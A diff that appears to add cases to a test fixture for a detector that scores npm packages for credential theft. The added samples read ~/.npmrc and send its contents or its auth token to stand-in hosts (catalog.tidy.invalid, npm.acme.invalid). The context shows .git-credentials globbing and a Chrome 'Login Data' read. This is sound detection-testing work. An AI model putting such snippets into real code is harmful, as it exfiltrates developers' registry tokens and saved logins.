@@ -231,6 +231,20 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       says: ['npm tokens', 'c2.invalid'],
     },
     {
+      when: 'a rule of a linter tells a catalogue what registries it found',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'); exports.create = () => { const lines = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').split('\\n'); const req = require('https').request('https://catalog.tidy.invalid/v1', { method: 'POST' }); req.end(JSON.stringify({ lines })); return {}; }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a tool shows a registry its token',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'); exports.publish = body => { const token = /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))[1]; return fetch('https://npm.acme.invalid/x', { method: 'PUT', headers: { authorization: 'Bearer ' + token }, body }); }`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'browser logins go out as a form',
       files: {
         'index.js': `const p = require('path').join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Login Data');
